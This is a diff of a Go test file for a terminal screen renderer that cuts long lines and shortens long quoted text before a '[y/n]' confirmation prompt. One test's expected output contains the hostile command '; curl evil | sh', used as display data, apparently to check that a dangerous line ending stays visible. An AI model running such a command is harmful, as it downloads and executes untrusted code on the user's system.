@@ -8,7 +8,7 @@ import (
 
 // rendered is a message on a screen of 80 columns that is as long as it takes.
 func rendered(m Message) string {
-	above, _ := screen(m, nil, "", "", 80, 1<<30)
+	above, _ := view{columns: 80, rows: 1 << 30}.screen(m, nil, "", "", "")
 	return above
 }
 
@@ -39,7 +39,7 @@ func TestLongLinesAreCut(t *testing.T) {
 	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
 		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
 	}
-	above, question := screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "Let t run?", "[y/n] ", 80, 24)
+	above, question := view{columns: 80, rows: 24}.screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "", "Let t run?", "[y/n] ")
 	if !strings.HasSuffix(above, "x\n(1001 rows in all; the screen has 24)\nA call of t:\n") || question != "Let t run? [y/n] " {
 		t.Errorf("%s%s", above[len(above)-200:], question)
 	}
